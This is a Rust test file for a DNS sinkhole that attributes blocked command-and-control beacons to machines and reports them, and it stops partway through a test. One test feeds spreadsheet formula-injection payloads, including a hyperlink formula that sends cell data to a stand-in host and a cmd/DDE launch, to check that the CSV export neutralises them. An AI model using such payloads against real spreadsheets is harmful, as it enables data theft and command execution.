//! Beaconing from several machines (127.0.0.x source addresses) against the real binary: every block event
//! names the machine that held the IP at that moment, across a DHCP reassignment; then `c2sink report`
//! names the infected machines with their first/last seen and beacon cadence.

mod common;

use common::*;
use std::collections::BTreeMap;
use std::time::{Duration, Instant, SystemTime, UNIX_EPOCH};

const ARP_HEADER: &str =
    "IP address       HW type     Flags       HW address            Mask     Device\n";

fn arp_line(ip: &str, mac: &str) -> String {
    format!("{ip:<16} 0x1         0x2         {mac}     *        eth0\n")
}

/// Rewrites a file atomically, as DHCP servers do, so the reader never sees half of it.
fn replace(path: &std::path::Path, text: &str) {
    let tmp = path.with_extension("tmp");
    std::fs::write(&tmp, text).unwrap();
    std::fs::rename(&tmp, path).unwrap();
}

const MAC_A: &str = "aa:00:00:00:00:0a";
const MAC_B: &str = "aa:00:00:00:00:0b";
const MAC_C: &str = "aa:00:00:00:00:0c";
const MAC_P: &str = "aa:00:00:00:00:0e";
const C2: &str = "akamaicontainer.com";
const ROUNDS: u32 = 6;
const EVERY: Duration = Duration::from_millis(250);

#[test]
fn events_name_the_machine_across_a_reassignment_and_report_finds_the_beacons() {
    let dir = tempdir("attribution");
    let far = 4_000_000_000u64;
    let arp = dir.join("arp");
    let dnsmasq = dir.join("dnsmasq.leases");
    let isc = dir.join("dhcpd.leases");
    std::fs::write(
        &arp,
        format!(
            "{ARP_HEADER}{}{}",
            arp_line("127.0.0.2", MAC_A),
            arp_line("127.0.0.3", MAC_B)
        ),
    )
    .unwrap();
    std::fs::write(
        &dnsmasq,
        format!("{far} {MAC_A} 127.0.0.2 laptop-a *\n{far} {MAC_B} 127.0.0.3 laptop-b *\n"),
    )
    .unwrap();
    std::fs::write(
        &isc,
        format!("lease 127.0.0.5 {{\n  ends never;\n  binding state active;\n  hardware ethernet {MAC_P};\n  client-hostname \"printer\";\n}}\n"),
    )
    .unwrap();
    let events = dir.join("events.log");
    let c = C2sink::start_in(
        &dir,
        &format!("{C2}\nmsedgepackageinfo.com\n"),
        &format!(
            // Beacons every 250 ms stand for real ones minutes apart: a window shorter than that keeps each
            // in a line of its own, as the default one second does for real beacons.
            "[log]\nevents = \"{}\"\nqueries = \"queries.log\"\ncoalesce = \"100ms\"\n[clients]\narp = \"arp\"\nndp = false\nrefresh_ms = 100\n\
             leases = [{{ format = \"dnsmasq\", path = \"dnsmasq.leases\" }}, {{ format = \"isc\", path = \"dhcpd.leases\" }}]\n\
             names = {{ \"127.0.0.6\" = \"reception-pc\" }}\n",
            events.display()
        ),
    );

    // Phase 1: laptop-a (.2), laptop-b (.3, over TCP), the printer (.5) and reception (.6) beacon every 250 ms;
    // an unknown machine (.4) asks twice for another name. Each round starts 250 ms after the last one ended
    // (when its last answer came, so after the server timed its events): on a machine that stalls, the timer
    // runs late, but never two beacons closer than 250 ms.
    let t0 = SystemTime::now();
    let mut ended = Instant::now();
    for i in 0..ROUNDS {
        if i > 0 {
            sleep_until(ended + EVERY);
        }
        for from in ["127.0.0.2", "127.0.0.5", "127.0.0.6"] {
            let (rcode, answers) = rcode_and_answers(&c.udp(from, C2, 1));
            assert_eq!((rcode, answers), (0, 1), "sinkholed with a null address");
        }
        assert_eq!(rcode_and_answers(&c.tcp("127.0.0.3", C2, 1)).0, 0);
        if i == 0 || i == ROUNDS - 1 {
            c.udp("127.0.0.4", "cdn.msedgepackageinfo.com", 1);
        }
        // Not listed: forwarded, never an event.
        assert_eq!(
            rcode_and_answers(&c.udp("127.0.0.2", "example.org", 1)),
            (0, 1)
        );
        ended = Instant::now();
    }
    let switch = SystemTime::now();

    // DHCP hands 127.0.0.2 to laptop-c; laptop-a comes back as 127.0.0.7.
    replace(
        &arp,
        &format!(
            "{ARP_HEADER}{}{}{}",
            arp_line("127.0.0.2", MAC_C),
            arp_line("127.0.0.3", MAC_B),
            arp_line("127.0.0.7", MAC_A)
        ),
    );
    replace(
        &dnsmasq,
        &format!(
            "{far} {MAC_C} 127.0.0.2 laptop-c *\n{far} {MAC_B} 127.0.0.3 laptop-b *\n{far} {MAC_A} 127.0.0.7 laptop-a *\n"
        ),
    );
    // The refresher runs at low priority: wait until a forwarded query (which makes no event) from each
    // address is logged with its new holder, instead of guessing how long a reload takes on a busy machine.
    let queries = dir.join("queries.log");
    for (ip, mac, host) in [
        ("127.0.0.2", MAC_C, "laptop-c"),
        ("127.0.0.7", MAC_A, "laptop-a"),
    ] {
        poll_until(&format!("{ip} to be named {host}"), || {
            c.udp(ip, "example.org", 1);
            std::thread::sleep(Duration::from_millis(50));
            // Read while the server writes: a line still being written is skipped, not a failure.
            let log = std::fs::read_to_string(&queries).unwrap_or_default();
            log.lines()
                .filter_map(|l| serde_json::from_str::<serde_json::Value>(l).ok())
                .rev()
                .find(|q| q["client_ip"] == ip)
                .is_some_and(|q| {
                    q["client_mac"].as_str() == Some(mac)
                        && q["client_hostname"].as_str() == Some(host)
                })
        });
    }
    let phase2 = SystemTime::now();
    for _ in 0..ROUNDS {
        sleep_until(ended + EVERY);
        c.udp("127.0.0.2", C2, 1);
        c.udp("127.0.0.7", C2, 1);
        ended = Instant::now();
    }
    let t_end = SystemTime::now();
    c.stop();

    // Every event names the machine that held the address when the query came.
    let lines = json_lines(&events);
    assert_eq!(
        lines.len() as u32,
        ROUNDS * 4 + 2 + ROUNDS * 2,
        "one event per blocked query"
    );
    for e in &lines {
        let ts = humantime::parse_rfc3339(e["ts"].as_str().unwrap()).unwrap();
        let ip = e["client_ip"].as_str().unwrap();
        let (mac, host) = (e["client_mac"].as_str(), e["client_hostname"].as_str());
        let want = match (ip, ts < switch) {
            ("127.0.0.2", true) => (Some(MAC_A), Some("laptop-a")),
            ("127.0.0.2", false) => (Some(MAC_C), Some("laptop-c")),
            ("127.0.0.3", _) => (Some(MAC_B), Some("laptop-b")),
            ("127.0.0.4", _) => (None, None),
            ("127.0.0.5", _) => (Some(MAC_P), Some("printer")),
            ("127.0.0.6", _) => (None, Some("reception-pc")),
            ("127.0.0.7", _) => (Some(MAC_A), Some("laptop-a")),
            _ => panic!("unexpected client {e}"),
        };
        assert_eq!((mac, host), want, "{e}");
        // Event times are cut to the millisecond.
        let ms = Duration::from_millis(1);
        assert!(
            ts + ms >= t0 && ts <= t_end && (ts < switch || ts + ms >= phase2),
            "{e}"
        );
        assert!(
            e.get("client_mac").is_some(),
            "unknown MAC is written as null: {e}"
        );
        assert_eq!(e["protocol"], if ip == "127.0.0.3" { "tcp" } else { "udp" });
    }

    // What the report must find, from the times the events give (how regular the timer the server saw was
    // depends on how the machine ran the test): per client and name, the beacons' times in seconds.
    let mut beacons: BTreeMap<(String, String), Vec<f64>> = BTreeMap::new();
    for e in &lines {
        let id = ["client_mac", "client_hostname", "client_ip"]
            .iter()
            .find_map(|k| e[*k].as_str())
            .unwrap();
        let ts = humantime::parse_rfc3339(e["ts"].as_str().unwrap()).unwrap();
        let secs = ts.duration_since(UNIX_EPOCH).unwrap().as_secs_f64();
        beacons
            .entry((id.to_string(), e["qname"].as_str().unwrap().to_string()))
            .or_default()
            .push(secs);
    }
    for ((id, qname), times) in &mut beacons {
        times.sort_by(f64::total_cmp);
        for w in times.windows(2) {
            // The pacing above: the server timed no two beacons closer than 250 ms (to the millisecond).
            assert!(
                w[1] - w[0] >= EVERY.as_secs_f64() - 0.001,
                "{id} {qname}: {times:?}"
            );
        }
    }

    // The report tells the machines apart (laptop-a across two IPs) and finds the 250 ms timer.
    let (code, out, err) = run(&[
        "report",
        "--format",
        "json",
        "--burst",
        "0.05",
        events.to_str().unwrap(),
    ]);
    assert_eq!(code, 0, "{err}");
    let r: serde_json::Value = serde_json::from_str(&out).unwrap();
    assert_eq!(r["infected"], 6, "{out}");
    let client = |id: &str| {
        r["clients"]
            .as_array()
            .unwrap()
            .iter()
            .find(|c| c["id"] == id)
            .unwrap_or_else(|| panic!("no client {id} in {out}"))
            .clone()
    };
    // Every client beacons on a timer but the unknown machine, which asked twice. (A timer that a stalling
    // machine ran too unevenly for the report's rule is rightly not called one.)
    let mut timers = 0;
    for id in [MAC_A, MAC_B, MAC_C, MAC_P, "reception-pc", "127.0.0.4"] {
        let got = client(id);
        let names = got["names"].as_array().unwrap();
        assert_eq!(names.len(), 1, "{id}: {got}");
        let qname = names[0]["qname"].as_str().unwrap();
        let (count, median, periodic) = cadence(&beacons[&(id.to_string(), qname.to_string())]);
        let cad = &names[0]["cadence"];
        assert_eq!(cad["beacons"], count, "{id}: {cad}");
        let med = cad["median_interval_s"].as_f64().unwrap();
        assert!(
            (med - median).abs() < 1e-6,
            "{id}: median {med}, want {median}"
        );
        assert_eq!(cad["periodic"], periodic, "{id}: {cad}");
        assert_eq!(got["periodic"], periodic, "{id}: {got}");
        timers += usize::from(periodic);
    }
    assert_eq!(r["beaconing"], timers, "{out}");
    let a = client(MAC_A);
    assert_eq!(a["hostnames"], serde_json::json!(["laptop-a"]));
    assert_eq!(a["ips"], serde_json::json!(["127.0.0.2", "127.0.0.7"]));
    assert_eq!(a["blocked"], ROUNDS * 2);
    let a_times = &beacons[&(MAC_A.to_string(), C2.to_string())];
    at(&a["first_seen"], a_times[0]);
    at(&a["last_seen"], a_times[a_times.len() - 1]);
    let cl = client(MAC_C);
    assert_eq!(cl["hostnames"], serde_json::json!(["laptop-c"]));
    assert_eq!(cl["blocked"], ROUNDS);
    let c_times = &beacons[&(MAC_C.to_string(), C2.to_string())];
    at(&cl["first_seen"], c_times[0]);
    assert_eq!(client(MAC_P)["hostnames"], serde_json::json!(["printer"]));
    assert_eq!(client("reception-pc")["blocked"], ROUNDS);
    let unknown = client("127.0.0.4");
    assert_eq!(unknown["periodic"], false, "two asks are no timer");
    assert_eq!(unknown["names"][0]["qname"], "cdn.msedgepackageinfo.com");
    let name = r["names"]
        .as_array()
        .unwrap()
        .iter()
        .find(|n| n["qname"] == C2)
        .unwrap();
    assert_eq!(name["clients"].as_array().unwrap().len(), 5);

    // The table for a terminal says the same in 80 columns.
    let (code, table, _) = run(&["report", "--burst", "0.05", events.to_str().unwrap()]);
    assert_eq!(code, 0);
    assert!(
        table.contains(&format!(
            "6 clients look infected; {timers} beacon{} on a timer.",
            if timers == 1 { "s" } else { "" }
        )),
        "{table}"
    );
    assert!(table.lines().all(|l| l.chars().count() <= 80), "{table}");
    assert!(table.contains("laptop-a"), "{table}");
    let (code, html, _) = run(&["report", "--format", "html", events.to_str().unwrap()]);
    assert_eq!(code, 0);
    assert_eq!(html.matches("<svg").count(), 6);
}

/// The kernel drops neighbour entries it has not used lately (once a LAN has more than 128 neighbours), so a
/// machine beaconing every few minutes often has none at its query: it is still named by the MAC last seen
/// at its address, and `report` keeps it one machine instead of a MAC and a bare IP.
#[test]
fn a_machine_whose_neighbour_entry_lapsed_is_still_named() {
    let dir = tempdir("neigh-memory");
    let arp = dir.join("arp");
    std::fs::write(
        &arp,
        format!("{ARP_HEADER}{}", arp_line("127.0.0.11", MAC_A)),
    )
    .unwrap();
    let events = dir.join("events.log");
    let c = C2sink::start_in(
        &dir,
        &format!("{C2}\n"),
        &format!(
            "[log]\nevents = \"{}\"\nqueries = \"queries.log\"\ncoalesce = \"0s\"\n\
             [clients]\narp = \"arp\"\nndp = false\nrefresh_ms = 100\n",
            events.display()
        ),
    );
    assert_eq!(rcode_and_answers(&c.udp("127.0.0.11", C2, 1)).0, 0);
    // The entry lapses; another machine's appears, which shows when the refresher has read the new table.
    replace(
        &arp,
        &format!("{ARP_HEADER}{}", arp_line("127.0.0.12", MAC_B)),
    );
    let queries = dir.join("queries.log");
    poll_until("the new neighbour table to be read", || {
        c.udp("127.0.0.12", "example.org", 1);
        std::fs::read_to_string(&queries)
            .unwrap_or_default()
            .lines()
            .filter_map(|l| serde_json::from_str::<serde_json::Value>(l).ok())
            .any(|q| q["client_ip"] == "127.0.0.12" && q["client_mac"] == MAC_B)
    });
    assert_eq!(rcode_and_answers(&c.udp("127.0.0.11", C2, 1)).0, 0);
    poll_until("both block events to be written", || {
        json_lines(&events).len() >= 2
    });
    let ev = json_lines(&events);
    assert_eq!(ev.len(), 2, "{ev:?}");
    for e in &ev {
        assert_eq!(e["client_ip"], "127.0.0.11");
        assert_eq!(e["client_mac"], MAC_A, "{e}");
    }
}

/// The table's first line says which span of time the report covers; with both `--since` and `--until` it
/// was cut at 80 columns, losing the end of the span (and "UTC"), the one thing an incident team checks.
#[test]
fn report_table_shows_the_whole_window_of_since_and_until() {
    let dir = tempdir("window");
    let line = |ts: &str| {
        format!(
            "{{\"ts\":\"{ts}\",\"kind\":\"block\",\"client_ip\":\"10.0.0.2\",\"client_port\":5000,\"client_mac\":null,\"client_hostname\":null,\"protocol\":\"udp\",\"qname\":\"cdn.msstorageazure.com\",\"qtype\":\"A\",\"list\":\"3cx\",\"rule\":\"msstorageazure.com\",\"action\":\"null\"}}\n"
        )
    };
    let events = dir.write(
        "events.jsonl",
        &(line("2026-11-27T09:00:00.000Z") + &line("2026-11-27T11:00:00.000Z")),
    );
    let e = events.to_str().unwrap();
    let (code, table, err) = run(&[
        "report",
        "--since",
        "2026-11-27 10:00",
        "--until",
        "2026-11-28T12:30:00Z",
        e,
    ]);
    assert_eq!(code, 0, "{err}");
    assert!(table.contains("1 blocked queries in 1 file"), "{table}");
    assert!(
        table.contains("2026-11-27 10:00:00 .. 2026-11-28 12:30:00 (UTC)"),
        "{table}"
    );
    assert!(!table.contains('~'), "nothing cut: {table}");
    assert!(table.lines().all(|l| l.chars().count() <= 80), "{table}");
    // A window that fits stays on the first line.
    let (code, table, _) = run(&["report", "--since", "2026-11-27 10:00", e]);
    assert_eq!(code, 0);
    assert!(
        table.starts_with(
            "c2sink report: 1 blocked queries in 1 file, 2026-11-27 10:00:00 .. end (UTC)\n"
        ),
        "{table}"
    );
}

#[test]
fn report_rejects_a_missing_file_and_a_bad_date() {
    let (code, _, err) = run(&["report", "/nonexistent/events.log"]);
    assert_eq!(code, 2);
    assert!(err.contains("/nonexistent/events.log"), "{err}");
    let (code, _, err) = run(&["report", "--since", "last tuesday", "/dev/null"]);
    assert_eq!(code, 2);
    assert!(err.contains("--since"), "{err}");
    for cmd in ["report", "hunt"] {
        let mut args = vec![cmd, "--since", "2026-11-29", "--until", "2026-11-28"];
        if cmd == "hunt" {
            args.extend(["--list", "/dev/null"]);
        }
        args.push("/dev/null");
        let (code, _, err) = run(&args);
        assert_eq!(code, 2, "{cmd}: {err}");
        assert!(
            err.contains("--since must be before --until"),
            "{cmd}: {err}"
        );
    }
}

fn sleep_until(t: Instant) {
    if let Some(d) = t.checked_duration_since(Instant::now()) {
        std::thread::sleep(d);
    }
}

fn secs(t: SystemTime) -> f64 {
    t.duration_since(UNIX_EPOCH).unwrap().as_secs_f64()
}

/// A report time (to the millisecond, as events are) that is `t` (seconds).
fn at(v: &serde_json::Value, t: f64) {
    let got = secs(humantime::parse_rfc3339(v.as_str().unwrap()).unwrap());
    assert!((got - t).abs() <= 0.001, "{v} vs {t}");
}

/// What the report's cadence must be for beacons at the sorted `times` (seconds), none closer than its
/// burst window: (beacons, median interval, periodic), by its documented rule: periodic with at least 4
/// intervals whose median absolute deviation is at most a fifth of their median.
fn cadence(times: &[f64]) -> (usize, f64, bool) {
    let median = |v: &mut Vec<f64>| {
        v.sort_by(f64::total_cmp);
        let n = v.len();
        if n % 2 == 1 {
            v[n / 2]
        } else {
            (v[n / 2 - 1] + v[n / 2]) / 2.0
        }
    };
    let mut intervals: Vec<f64> = times.windows(2).map(|w| w[1] - w[0]).collect();
    let n = intervals.len();
    let med = median(&mut intervals);
    let mad = median(&mut intervals.iter().map(|i| (i - med).abs()).collect());
    (times.len(), med, n >= 4 && mad <= 0.2 * med)
}

/// A query for `name` carrying one OPT record with the given EDNS options, as a forwarding router sends it.
fn query_with_options(id: u16, name: &str, opts: &[(u16, Vec<u8>)]) -> Vec<u8> {
    let mut q = query(id, name, 1);
    add_opt_with(&mut q, 1232, 0, false, opts);
    q
}

/// With `edns_from` empty (the default) every sender's client subnet is believed, but a machine that makes
/// one up must not hide: it keeps its own identity, and `report` still shows the address it sent from.
#[test]
fn a_made_up_client_subnet_does_not_hide_the_sender() {
    let dir = tempdir("ecs-made-up");
    let events = dir.join("events.log");
    let c = C2sink::start_in(
        &dir,
        C2,
        &format!(
            "[log]\nevents = \"{}\"\ncoalesce = \"0s\"\n[clients]\narp = \"\"\nndp = false\n\
             names = {{ \"127.0.0.21\" = \"admin-box\" }}\n",
            events.display()
        ),
    );
    let sender = std::net::UdpSocket::bind("127.0.0.21:0").unwrap();
    sender
        .set_read_timeout(Some(Duration::from_secs(3)))
        .unwrap();
    let mut buf = [0u8; 1500];
    for (id, opts) in [
        (1u16, vec![(8u16, vec![0, 1, 32, 0, 10, 77, 77, 77])]),
        (2, vec![]),
    ] {
        sender
            .send_to(&query_with_options(id, C2, &opts), c.addr())
            .unwrap();
        let n = sender.recv(&mut buf).unwrap();
        assert_eq!(rcode_and_answers(&buf[..n]).0, 0);
    }
    poll_until("both events", || json_lines(&events).len() >= 2);
    let e = json_lines(&events);
    assert_eq!(e[0]["client_subnet"], "10.77.77.77/32");
    for x in &e {
        assert_eq!(x["client_hostname"], "admin-box", "{x}");
    }
    let (code, out, err) = run(&["report", "--format", "json", events.to_str().unwrap()]);
    assert_eq!(code, 0, "{err}");
    let r: serde_json::Value = serde_json::from_str(&out).unwrap();
    let clients = r["clients"].as_array().unwrap();
    assert_eq!(clients.len(), 1, "{out}");
    assert_eq!(clients[0]["id"], "admin-box");
    assert_eq!(
        clients[0]["ips"],
        serde_json::json!(["10.77.77.77 via 127.0.0.21", "127.0.0.21"])
    );
}

#[test]
fn clients_behind_a_forwarding_router_are_told_apart_by_edns() {
    let dir = tempdir("edns");
    let far = 4_000_000_000u64;
    std::fs::write(
        dir.join("dnsmasq.leases"),
        format!("{far} aa:00:00:00:00:51 192.168.50.5 behind-router *\n{far} aa:00:00:00:00:52 192.168.50.6 also-behind *\ngarbage\n"),
    )
    .unwrap();
    let events = dir.join("events.log");
    let c = C2sink::start_in(
        &dir,
        C2,
        &format!(
            "[log]\nevents = \"{}\"\nqueries = \"queries.log\"\n[clients]\narp = \"\"\nndp = false\nedns_from = [\"127.0.0.8\"]\n\
             leases = [{{ format = \"dnsmasq\", path = \"dnsmasq.leases\" }}]\n",
            events.display()
        ),
    );
    assert!(
        c.wait_for_log("dnsmasq.leases:3: expected EXPIRY", PATIENCE),
        "{}",
        c.log()
    );
    let (code, out, _) = run(&[
        "check",
        "--config",
        dir.join("c2sink.toml").to_str().unwrap(),
    ]);
    assert_eq!(code, 0, "a bad lease line is shown, not fatal: {out}");
    assert!(
        out.contains("dnsmasq.leases: 2 leases in force, 1 unreadable lines"),
        "{out}"
    );
    assert!(
        out.contains("dnsmasq.leases:3: expected EXPIRY MAC IP HOSTNAME"),
        "{out}"
    );
    let router = std::net::UdpSocket::bind("127.0.0.8:0").unwrap();
    router
        .set_read_timeout(Some(Duration::from_secs(3)))
        .unwrap();
    let mut buf = [0u8; 1500];
    // dnsmasq --add-mac (binary form), then EDNS Client Subnet with the full address.
    for (id, opts) in [
        (1u16, vec![(65001u16, vec![0xaa, 0, 0, 0, 0, 0x51])]),
        (2, vec![(8, vec![0, 1, 32, 0, 192, 168, 50, 6])]),
        (3, vec![(8, vec![0, 1, 24, 0, 192, 168, 50])]),
    ] {
        router
            .send_to(&query_with_options(id, C2, &opts), c.addr())
            .unwrap();
        let n = router.recv(&mut buf).unwrap();
        assert_eq!(u16::from_be_bytes([buf[0], buf[1]]), id);
        assert_eq!(rcode_and_answers(&buf[..n]).0, 0);
    }
    // A machine that is not a listed router claims to be another one: its hints are not believed.
    let spoofer = std::net::UdpSocket::bind("127.0.0.9:0").unwrap();
    spoofer
        .set_read_timeout(Some(Duration::from_secs(3)))
        .unwrap();
    let claim = vec![
        (65001u16, vec![0xaa, 0, 0, 0, 0, 0x51]),
        (8, vec![0, 1, 32, 0, 192, 168, 50, 6]),
    ];
    spoofer
        .send_to(&query_with_options(4, C2, &claim), c.addr())
        .unwrap();
    let n = spoofer.recv(&mut buf).unwrap();
    assert_eq!(rcode_and_answers(&buf[..n]).0, 0);
    c.stop();
    let mut e = json_lines(&events);
    assert_eq!(e.len(), 4);
    let spoofed = e.pop().unwrap();
    assert_eq!(spoofed["client_ip"], "127.0.0.9");
    assert!(
        spoofed["client_mac"].is_null()
            && spoofed["client_hostname"].is_null()
            && spoofed.get("client_subnet").is_none(),
        "hints from outside edns_from are ignored: {spoofed}"
    );
    assert_eq!(
        (
            e[0]["client_mac"].as_str(),
            e[0]["client_hostname"].as_str()
        ),
        (Some("aa:00:00:00:00:51"), Some("behind-router"))
    );
    assert_eq!(e[1]["client_hostname"], "also-behind");
    assert_eq!(e[1]["client_subnet"], "192.168.50.6/32");
    assert_eq!(e[2]["client_subnet"], "192.168.50.0/24");
    assert!(
        e[2]["client_hostname"].is_null(),
        "a subnet names no single machine"
    );
    for x in &e {
        assert_eq!(x["client_ip"], "127.0.0.8");
    }
    // The query log names the same machines: `hunt` reads it to find who reached a name before it was listed.
    let q = json_lines(&dir.join("queries.log"));
    let who: Vec<(&str, Option<&str>)> = q
        .iter()
        .map(|l| {
            (
                l["client_ip"].as_str().unwrap_or(""),
                l["client_hostname"].as_str(),
            )
        })
        .collect();
    assert_eq!(
        who,
        [
            ("127.0.0.8", Some("behind-router")),
            ("127.0.0.8", Some("also-behind")),
            ("127.0.0.8", None),
            ("127.0.0.9", None),
        ]
    );
    assert_eq!(q[0]["client_mac"], "aa:00:00:00:00:51");
}

/// A router (listed in `edns_from`, with an ARP entry of its own) forwards the queries of two machines it
/// knows nothing of, each with a full-length client subnet: they must stay two machines in the events, the
/// query log, `report`, `hunt` and the alerts, never both become the router. A machine outside `edns_from`
/// that sends a subnet is not believed and stays itself.
#[test]
fn machines_behind_a_router_stay_apart_by_a_full_length_client_subnet() {
    const ROUTER_MAC: &str = "ee:ee:ee:00:00:09";
    const OTHER_MAC: &str = "ee:ee:ee:00:00:0a";
    let dir = tempdir("ecs-apart");
    std::fs::write(
        dir.join("arp"),
        format!(
            "{ARP_HEADER}{}{}",
            arp_line("127.0.0.9", ROUTER_MAC),
            arp_line("127.0.0.10", OTHER_MAC)
        ),
    )
    .unwrap();
    let alerts = std::net::UdpSocket::bind("127.0.0.1:0").unwrap();
    // The sender is a low-priority thread: a generous wait, spent only when the test fails.
    alerts.set_read_timeout(Some(PATIENCE)).unwrap();
    let events = dir.join("events.log");
    let queries = dir.join("queries.log");
    let c = C2sink::start_in(
        &dir,
        C2,
        &format!(
            "[log]\nevents = \"{}\"\nqueries = \"{}\"\n[clients]\narp = \"arp\"\nndp = false\nedns_from = [\"127.0.0.9\"]\n\
             [alerts]\nsyslog = \"udp://{}\"\n",
            events.display(),
            queries.display(),
            alerts.local_addr().unwrap()
        ),
    );
    let ecs = |last: u8| vec![(8u16, vec![0, 1, 32, 0, 10, 9, 9, last])];
    let mut buf = [0u8; 1500];
    for (from, id, last) in [
        ("127.0.0.9", 1u16, 9u8),
        ("127.0.0.9", 2, 10),
        ("127.0.0.10", 3, 11),
    ] {
        let s = std::net::UdpSocket::bind((from, 0)).unwrap();
        s.set_read_timeout(Some(Duration::from_secs(3))).unwrap();
        s.send_to(&query_with_options(id, C2, &ecs(last)), c.addr())
            .unwrap();
        let n = s.recv(&mut buf).unwrap();
        assert_eq!(u16::from_be_bytes([buf[0], buf[1]]), id);
        assert_eq!(rcode_and_answers(&buf[..n]).0, 0);
    }
    let mut alerted = Vec::new();
    for _ in 0..3 {
        let n = alerts.recv(&mut buf).expect("one alert per machine: three");
        let m = String::from_utf8_lossy(&buf[..n]).into_owned();
        let body = &m[m.find(" alert - ").expect("MSGID alert") + 9..];
        let a: serde_json::Value = serde_json::from_str(body).unwrap();
        alerted.push((
            a["client_mac"].as_str().map(String::from),
            a["client_subnet"].as_str().map(String::from),
            a["text"].as_str().unwrap_or_default().to_string(),
        ));
    }
    c.stop();
    alerted.sort();
    assert_eq!(
        alerted
            .iter()
            .map(|(m, s, _)| (m.as_deref(), s.as_deref()))
            .collect::<Vec<_>>(),
        [
            (None, Some("10.9.9.10/32")),
            (None, Some("10.9.9.9/32")),
            (Some(OTHER_MAC), None)
        ],
        "{alerted:?}"
    );
    assert!(
        alerted[1].2.contains("10.9.9.9 via 127.0.0.9"),
        "{alerted:?}"
    );

    let e = json_lines(&events);
    let who = |l: &serde_json::Value| {
        (
            l["client_ip"].as_str().unwrap_or("").to_string(),
            l["client_mac"].as_str().map(String::from),
            l["client_hostname"].as_str().map(String::from),
            l["client_subnet"].as_str().map(String::from),
        )
    };
    let want = [
        ("127.0.0.9", None, Some("10.9.9.9/32")),
        ("127.0.0.9", None, Some("10.9.9.10/32")),
        ("127.0.0.10", Some(OTHER_MAC), None),
    ]
    .map(|(ip, mac, subnet)| {
        (
            ip.to_string(),
            mac.map(String::from),
            None,
            subnet.map(String::from),
        )
    });
    assert_eq!(e.iter().map(who).collect::<Vec<_>>(), want, "{e:?}");
    let q = json_lines(&queries);
    assert_eq!(
        q.iter().map(who).collect::<Vec<_>>(),
        want,
        "the query log names them the same way: {q:?}"
    );

    let (code, out, err) = run(&["report", "--format", "json", events.to_str().unwrap()]);
    assert_eq!(code, 0, "{err}");
    let r: serde_json::Value = serde_json::from_str(&out).unwrap();
    let mut machines: Vec<(String, Vec<serde_json::Value>)> = r["clients"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| {
            (
                c["id"].as_str().unwrap().to_string(),
                c["ips"].as_array().unwrap().clone(),
            )
        })
        .collect();
    machines.sort_by(|a, b| a.0.cmp(&b.0));
    assert_eq!(
        machines,
        [
            (
                "10.9.9.10".to_string(),
                vec![serde_json::json!("10.9.9.10 via 127.0.0.9")]
            ),
            (
                "10.9.9.9".to_string(),
                vec![serde_json::json!("10.9.9.9 via 127.0.0.9")]
            ),
            (OTHER_MAC.to_string(), vec![serde_json::json!("127.0.0.10")]),
        ],
        "{out}"
    );
    assert_eq!(r["infected"], 3, "{out}");

    let list = dir.join("ioc.txt");
    std::fs::write(&list, format!("{C2}\n")).unwrap();
    let (code, out, err) = run(&[
        "hunt",
        "--format",
        "json",
        "--list",
        list.to_str().unwrap(),
        queries.to_str().unwrap(),
        events.to_str().unwrap(),
    ]);
    assert_eq!(code, 0, "{err}");
    let h: serde_json::Value = serde_json::from_str(&out).unwrap();
    let mut ids: Vec<(&str, u64)> = h["clients"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| (c["id"].as_str().unwrap(), c["hits"].as_u64().unwrap()))
        .collect();
    ids.sort();
    assert_eq!(
        ids,
        [("10.9.9.10", 1), ("10.9.9.9", 1), (OTHER_MAC, 1)],
        "{out}"
    );
    assert_eq!(h["hits"], 3, "{out}");
}

/// Splits one CSV line into its fields (quoted fields as RFC 4180 writes them).
fn csv_fields(line: &str) -> Vec<String> {
    let (mut out, mut cur, mut quoted, mut chars) =
        (Vec::new(), String::new(), false, line.chars().peekable());
    while let Some(ch) = chars.next() {
        match (ch, quoted) {
            ('"', true) if chars.peek() == Some(&'"') => {
                cur.push('"');
                chars.next();
            }
            ('"', _) => quoted = !quoted,
            (',', false) => out.push(std::mem::take(&mut cur)),
            _ => cur.push(ch),
        }
    }
    out.push(cur);
    out
}

/// Query names (and DHCP hostnames) are the client's choice: in `report --format csv` none may start a field
/// a spreadsheet reads as a formula.
#[test]
fn report_csv_cannot_carry_a_formula() {
    let dir = tempdir("csv-formula");
    std::fs::write(
        dir.join("dnsmasq.leases"),
        "4000000000 aa:00:00:00:00:03 127.0.0.3 @sum(1+1) *\n",
    )
    .unwrap();
    let events = dir.join("events.log");
    let c = C2sink::start_in(
        &dir,
        C2,
        &format!(
            "[log]\nevents = \"{}\"\n[clients]\narp = \"\"\nndp = false\n\
             leases = [{{ format = \"dnsmasq\", path = \"dnsmasq.leases\" }}]\n",
            events.display()
        ),
    );
    let names = [
        format!("=hyperlink(\"http://evil.example/\"&b2).{C2}"),
        format!("+cmd|'/c calc'!a0.{C2}"),
        format!("-2+3.{C2}"),
        format!("@sum(1).{C2}"),
    ];
    for n in &names {
        c.udp("127.0.0.3", n, 1);
    }
    c.stop();
    let (code, out, err) = run(&["report", "--format", "csv", events.to_str().unwrap()]);
    assert_eq!(code, 0, "{err}");
    let rows: Vec<Vec<String>> = out.lines().skip(1).map(csv_fields).collect();
    assert_eq!(rows.len(), names.len(), "{out}");
    for row in &rows {
        for f in row {
            assert!(
                !f.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a formula in {f:?}: {out}"
            );
        }
        assert_eq!(row[1], "'@sum(1+1)", "the hostname is kept, as text: {out}");
    }
    let mut qnames: Vec<&str> = rows.iter().map(|r| r[4].as_str()).collect();
    qnames.sort();
    let mut want: Vec<String> = names
        .iter()
        .map(|n| format!("'{}", n.replace(' ', "\\032")))
        .collect();
    want.sort();
    assert_eq!(qnames, want, "{out}");
}

/// `report` shows each time to the millisecond the event has, whatever that millisecond (an f64 of
/// seconds cut to milliseconds turned `.287` into `.286`).
#[test]
fn report_times_keep_the_events_milliseconds() {
    let dir = tempdir("report-ms");
    let mut text = String::new();
    let mut want = Vec::new();
    for ms in 0..1000 {
        let ts = format!("2026-11-29T18:45:25.{ms:03}Z");
        text.push_str(&format!(
            "{{\"ts\":\"{ts}\",\"kind\":\"block\",\"client_ip\":\"127.0.0.2\",\"client_port\":5353,\"client_mac\":null,\"client_hostname\":null,\"protocol\":\"udp\",\"qname\":\"n{ms:03}.{C2}\",\"qtype\":\"A\",\"list\":\"3cx\",\"rule\":\"{C2}\",\"action\":\"null\"}}\n"
        ));
        want.push((format!("n{ms:03}.{C2}"), ts));
    }
    let events = dir.write("events.log", &text);
